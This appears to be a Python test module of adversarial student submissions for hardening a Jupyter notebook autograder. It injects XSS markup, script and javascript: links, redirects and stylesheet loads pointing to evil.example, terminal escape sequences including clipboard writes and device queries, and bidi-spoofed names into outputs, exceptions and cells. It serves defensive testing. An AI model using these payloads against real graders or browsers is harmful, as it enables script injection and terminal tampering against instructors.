"""Markup, scripts and escape sequences, aimed at the browser and the terminal of the instructor."""

from __future__ import annotations

import nbformat
from sample_class.handed_in import HandedIn

from attacks.recipe import attack


@attack("escaping", "dot_score")
def exceptions_with_a_bite(submission: HandedIn) -> None:
    """Exceptions whose text is endless, huge, or markup, and a class that is no Exception at all."""
    submission.fill(
        "dot_score",
        """
        class Bite(BaseException):
            calls = 0
            def __str__(self):
                Bite.calls += 1
                return "<script>alert(1)</script>" * (1 << 20)
            __repr__ = __str__

        Bite.__name__ = Bite.__qualname__ = "<b>1000</b>" * 1000

        def dot_score(x_i, x_j):
            raise Bite()
        """,
    )


#: Markup that runs where it is not escaped. Every piece names itself, so that a page can be searched for it.
MARKUP = (
    "<script>document.title='PWNED'</script>",
    "<img src=x onerror=\"document.title='PWNED'\">",
    "<svg onload=\"document.title='PWNED'\"></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='PWNED'</script>\"></iframe>",
    "</pre></div></td><script>document.title='PWNED'</script>",
    "<a href=\"javascript:document.title='PWNED'\">PWNED</a>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example/>',
    "<form action=//evil.example><input name=points value=1000 autofocus onfocus=\"document.title='PWNED'\">",
)

#: What a terminal acts on: title, colours, clipboard, cursor, a question that it answers, a link, a bell.
ESCAPES = (
    "\x1b]0;PWNED\x07",
    "\x1b]2;PWNED\x1b\\",
    "\x1b]52;c;UFdORUQ=\x07",
    "\x1b[2J\x1b[H\x1b[31mPWNED",
    '\x1b[c\x1b[6n\x1bP$q"p\x1b\\',
    "\x1b]8;;javascript:PWNED\x07PWNED\x1b]8;;\x07",
    "\x1b[?1049h\x1bc\x9b31m\x90PWNED\x9c",
    "\r\x1b[KPWNED\b\b\b\b\a",
    "\u202egnp.exe\u2066PWNED\u2069\u200b\ufeff",
)


@attack("escaping", "dot_score")
def markup_in_outputs(submission: HandedIn) -> None:
    """HTML, JavaScript, SVG, Markdown, LaTeX, widgets and PDFs are displayed, and printed as text."""
    submission.fill(
        "dot_score",
        f"""
        from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display

        MARKUP = {MARKUP!r}
        for text in MARKUP:
            print(text)
            display(HTML(text), Markdown(text), Latex(text), Javascript(f"document.title='PWNED'"))
            for mime in ("text/html", "image/svg+xml", "application/javascript", "text/markdown",
                         "application/pdf", "application/vnd.jupyter.widget-view+json", "TEXT/HTML",
                         "text/html; charset=utf-8", "application/vnd.bokehjs_exec.v0+json", MARKUP[0]):
                display({{mime: text, "text/plain": text}}, raw=True)
        display(IFrame("https://evil.example", 1, 1))

        def dot_score(x_i, x_j):
            return 0.0

        class Shown:
            def _repr_mimebundle_(self, include=None, exclude=None):
                return {{mime: text for mime, text in zip(("text/html", "text/plain"), MARKUP)}}

        Shown()
        """,
    )


@attack("escaping", "dot_score")
def markup_in_pictures(submission: HandedIn) -> None:
    """Pictures that are markup behind their first bytes; sizes and descriptions that leave their quotes."""
    submission.fill(
        "dot_score",
        f"""
        import base64
        from IPython.display import display

        MARKUP = {MARKUP!r}
        for text in MARKUP:
            for mime, magic in (("image/png", b"\\x89PNG\\r\\n\\x1a\\n"), ("image/jpeg", b"\\xff\\xd8\\xff"),
                                ("image/gif", b"GIF89a"), ("image/svg+xml", b"")):
                about = {{"alt": f'x" {{text}} "', "width": f'1" {{text}}', "height": 10**9}}
                data = base64.b64encode(magic + text.encode()).decode()
                display({{mime: data}}, raw=True, metadata={{mime: about}})
            display({{"image/png": f'iVBORw0KGgo=" {{text}}'}}, raw=True)

        def dot_score(x_i, x_j):
            return 0.0
        """,
    )


@attack("escaping", "dot_score")
def markup_in_messages(submission: HandedIn) -> None:
    """Exceptions, types and keys whose names and messages are markup; the judge quotes them."""
    submission.fill(
        "dot_score",
        f"""
        MARKUP = {MARKUP!r}
        asked = []

        def dot_score(x_i, x_j):
            asked.append(1)
            text = MARKUP[len(asked) % len(MARKUP)]
            kind = type(text, (Exception,), {{"__qualname__": text, "__module__": text}})
            if len(asked) % 3 == 0:
                return kind(text)
            if len(asked) % 3 == 1:
                return {{text: text}}
            raise kind(text)
        """,
    )
    submission.after("dot_score", f"raise type({MARKUP[0]!r}, (Exception,), {{}})({MARKUP[1]!r})")


@attack("escaping", "third_output", "recurrent_or_attention", "dot_score")
def markup_in_answers(submission: HandedIn) -> None:
    """Questions are answered with markup, and code is called by markup's names."""
    submission.fill("third_output", f"third_output = {list(MARKUP)!r}")
    submission.fill("recurrent_or_attention", f"recurrent_or_attention = {MARKUP[4]!r}")
    submission.fill("dot_score", f"globals()[{MARKUP[0]!r}] = 1\ndot_score = type({MARKUP[1]!r}, (), {{}})()")


@attack("escaping", "dot_score")
def markup_in_prose(submission: HandedIn) -> None:
    """Markdown and raw cells, and the written answer, hold markup, links, references and entities."""
    more = (
        "[PWNED](javascript:document.title='PWNED')",
        "[PWNED][evil]\n\n[evil]: javascript:document.title='PWNED'",
        "![PWNED](x\"onerror=\"document.title='PWNED')",
        "<javascript:document.title='PWNED'>",
        "`<script>`<script>document.title='PWNED'</script>",
        "$$</span><img src=x onerror=\"document.title='PWNED'\">$$",
        "$\\href{javascript:document.title='PWNED'}{PWNED}$",
        "&lt;script&gt; &#60;script&#62;document.title='PWNED'&#60;/script&#62;",
        "<scr\n<script>ipt>document.title='PWNED'</script>",
        "<\u200bscript>document.title='PWNED'</script>",
        "| a | b |\n|---|---|\n| <script>document.title='PWNED'</script> | x |",
    )
    submission.fill("dot_score", "def dot_score(x_i, x_j):\n    return 0.0")
    submission.fill("longer_vectors_win", "\n\n".join([*MARKUP, *more]))
    for text in (*MARKUP, *more):
        submission.after("dot_score", text, kind="markdown")
        raw = nbformat.v4.new_raw_cell(text, id=f"raw-{len(submission.notebook.cells)}")
        raw.metadata["raw_mimetype"] = raw.metadata["format"] = "text/html"
        submission.notebook.cells.append(raw)


@attack("escaping", "dot_score")
def markup_in_code(submission: HandedIn) -> None:
    """The source of cells is markup, in strings and comments and outside of them."""
    lines = "\n".join(f"# {text}" for text in MARKUP)
    submission.fill("dot_score", f"{lines}\ndef dot_score(x_i, x_j):\n    return {MARKUP[4]!r}")
    submission.after("dot_score", "\n".join(MARKUP))


@attack("escaping", "dot_score")
def escapes_in_outputs(submission: HandedIn) -> None:
    """Terminal escapes and characters that reorder text are printed, displayed, and raised."""
    submission.fill(
        "dot_score",
        f"""
        import sys
        from IPython.display import display

        ESCAPES = {ESCAPES!r}
        for text in ESCAPES:
            print(text)
            print(text, file=sys.stderr)
            display({{"text/plain": text}}, raw=True)

        def dot_score(x_i, x_j):
            return 0.0

        raise ValueError("".join(ESCAPES))
        """,
    )


@attack("escaping", "dot_score", "cosine_score_matrix", "recurrent_or_attention")
def escapes_in_messages(submission: HandedIn) -> None:
    """Names and messages that the judge quotes, on the terminal too, are full of terminal escapes."""
    submission.fill("recurrent_or_attention", f"recurrent_or_attention = {''.join(ESCAPES)!r}")
    submission.fill(
        "dot_score",
        f"""
        def dot_score(x_i, x_j):
            raise type({ESCAPES[0]!r}, (Exception,), {{}})({"".join(ESCAPES)!r})
        """,
    )
    submission.fill(
        "cosine_score_matrix",
        f"""
        def cosine_score_matrix(X, eps=1e-12):
            return type({"".join(ESCAPES)!r}, (), {{}})()
        """,
    )
